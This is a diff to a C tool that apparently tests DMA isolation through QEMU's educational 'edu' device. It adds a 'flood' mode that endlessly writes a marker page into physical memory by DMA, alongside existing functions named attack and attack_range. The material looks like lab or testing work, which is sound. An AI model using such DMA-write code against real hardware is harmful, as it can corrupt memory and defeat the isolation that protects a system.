@@ -16,6 +16,7 @@
 
 #define PAGE 4096ull
 #define COUNT 64 /* bytes an attack moves */
+#define FLOOD "FLOOD-"
 #define EDU_SIZE 0x100000
 #define EDU_BUFFER 0x40000ull
 #define EDU_PATIENCE 60
@@ -222,15 +223,31 @@ static int send_messages(uint32_t first, uint32_t last)
 	return 0;
 }
 
+/* flood: writes a page of ours for ever, something else each time, so that whoever stops it stops it on its way. */
+static _Noreturn void flood(void)
+{
+	unsigned char *to = own + PAGE;
+
+	for (unsigned int i = 0; i < PAGE / COUNT; i++)
+		snprintf((char *)own + i * COUNT, COUNT, FLOOD "%02u", i);
+	copy(own_at, EDU_BUFFER, PAGE, 0);
+	memset(to, 0, PAGE);
+	printf("flooding 0x%" PRIx64 "\n", address_of(to));
+	fflush(stdout);
+	for (unsigned int i = 0;; i = (i + 1) % (PAGE / COUNT))
+		copy(EDU_BUFFER + i * COUNT, address_of(to), COUNT, TO_MEMORY);
+}
+
 int main(int argc, char **argv)
 {
 	int got = 0;
 
 	if (argc < 2) {
-		fprintf(stderr, "usage: dma ADDRESS... | dma range FIRST LAST STEP | dma message FIRST LAST\n");
+		fprintf(stderr, "usage: dma ADDRESS... | range FIRST LAST STEP | message FIRST LAST | flood\n");
 		return 2;
 	}
-	own = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
+	own = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
+		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
 	if (own == MAP_FAILED)
 		die("mmap");
 	own_at = address_of(own);
@@ -240,6 +257,8 @@ int main(int argc, char **argv)
 		return attack_range(strtoull(argv[2], NULL, 0), strtoull(argv[3], NULL, 0), strtoull(argv[4], NULL, 0));
 	if (!strcmp(argv[1], "message") && argc == 4)
 		return send_messages((uint32_t)strtoul(argv[2], NULL, 0), (uint32_t)strtoul(argv[3], NULL, 0));
+	if (!strcmp(argv[1], "flood"))
+		flood();
 	for (int i = 1; i < argc; i++)
 		got |= attack(strtoull(argv[i], NULL, 0));
 	return got;
